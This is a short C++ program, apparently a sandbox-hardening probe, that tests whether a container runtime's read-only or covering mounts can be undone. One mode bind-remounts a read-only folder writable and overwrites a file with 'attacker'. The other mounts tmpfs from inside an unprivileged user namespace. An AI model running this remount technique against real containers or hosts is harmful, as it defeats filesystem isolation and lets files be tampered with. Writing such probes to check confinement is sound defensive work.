// CAP_SYS_ADMIN is the right to mount, among a hundred others. What a runtime made read-only or
// covered is a mount, so whoever may mount takes it off again. And nobody has to be given that
// right: in a user namespace of his own everybody has all capabilities, and with them the whole
// of the kernel's code behind mount(2); only a filter of system calls closes that door.
//
//   mount_again remount FOLDER FILE   makes the read-only FOLDER writable, and writes FILE there
//   mount_again userns FOLDER         a user namespace, and in it a new file system over FOLDER
// Exit code: 0 it worked, 3 the kernel refused, 2 anything else.
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>
#include <string>

namespace {

int refused(const char* call) {
    std::printf("%s: %s\n", call, std::strerror(errno));
    return errno == EPERM || errno == EROFS ? 3 : 2;
}

int remount(const char* folder, const char* file) {
    if (::unshare(CLONE_NEWNS) != 0) return refused("unshare");
    if (::mount(nullptr, folder, nullptr, MS_REMOUNT | MS_BIND, nullptr) != 0) {
        return refused("mount");
    }
    const std::string path = std::string{folder} + "/" + file;
    const int written = ::open(path.c_str(), O_WRONLY | O_TRUNC);
    if (written < 0) return refused("open");
    if (::write(written, "attacker", 8) != 8) return refused("write");
    std::puts("the read-only file is mine");
    return 0;
}

int mount_in_user_namespace(const char* folder) {
    if (::unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) return refused("unshare");
    if (::mount("none", folder, "tmpfs", 0, nullptr) != 0) return refused("mount");
    std::puts("every capability in my own namespace");
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    if (argc == 4 && std::strcmp(argv[1], "remount") == 0) return remount(argv[2], argv[3]);
    if (argc == 3 && std::strcmp(argv[1], "userns") == 0) return mount_in_user_namespace(argv[2]);
    return 2;
}
